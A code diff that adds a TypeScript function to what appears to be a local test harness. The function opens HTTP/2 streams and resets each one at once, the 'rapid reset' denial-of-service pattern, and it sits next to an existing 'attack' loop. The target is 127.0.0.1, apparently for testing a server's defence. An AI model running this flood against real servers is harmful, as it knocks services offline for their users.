@@ -41,6 +41,31 @@ export async function loadManyStreams(
   });
 }
 
+/** Opens streams on one connection, and resets each at once: Deno then gives up the connection. */
+export async function resetStreams(port: number, count: number): Promise<void> {
+  using connection = await Deno.connect({ hostname: "127.0.0.1", port });
+  const headers = requestHeaders({
+    ":method": "PUT",
+    ":scheme": "http",
+    ":authority": "127.0.0.1",
+    ":path": "/",
+  });
+  const CANCEL = new Uint8Array([0, 0, 0, 8]);
+  const streams = Array.from({ length: count }, (_, number) => 2 * number + 1);
+  const written = write(connection, [
+    PREFACE,
+    frame(FRAME.settings, 0, 0),
+    ...streams.flatMap((stream) => [
+      frame(FRAME.headers, END_HEADERS, stream, headers),
+      frame(FRAME.reset, 0, stream, CANCEL),
+    ]),
+  ]);
+  // The server may cut the connection first.
+  await written.catch(() => {});
+  const buffer = new Uint8Array(65_536);
+  while (await connection.read(buffer).catch(() => null) !== null);
+}
+
 // Connects again when the server has closed the connection.
 async function attack(port: number, target: StreamTarget, end: AbortSignal): Promise<void> {
   while (!end.aborted) {
